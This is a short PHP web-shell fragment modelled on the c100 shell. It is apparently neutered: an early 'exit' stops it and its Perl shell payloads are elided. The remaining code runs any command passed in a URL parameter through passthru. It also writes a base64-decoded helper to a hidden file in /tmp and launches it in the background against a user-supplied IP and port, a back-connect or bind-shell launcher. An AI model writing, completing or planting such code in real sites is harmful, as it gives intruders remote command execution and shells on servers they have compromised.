<?php exit; /* inert */ $perl_helpers = array('bind' => '/* elided */', 'back' => '/* elided */');
function cf($fname, $text) {
    $w_file = @fopen($fname, "w");
    if ($w_file) { @fputs($w_file, @base64_decode($text)); @fclose($w_file); }
}
function ex100($c) { ob_start(); passthru($c); $r = ob_get_contents(); ob_end_clean(); return $r; }
if (isset($_POST['use'])) {
    $which = $_POST['use'];
    cf("/tmp/.c100", $perl_helpers[$which]);
    $arg = $_POST['ip'] . " " . $_POST['port'];
    echo ex100("perl /tmp/.c100 " . $arg . " 1>/dev/null 2>&1 &");
    @unlink("/tmp/.c100");
}
if (isset($_GET['c100cmd'])) { echo '<xmp>' . ex100($_GET['c100cmd']) . '</xmp>'; }
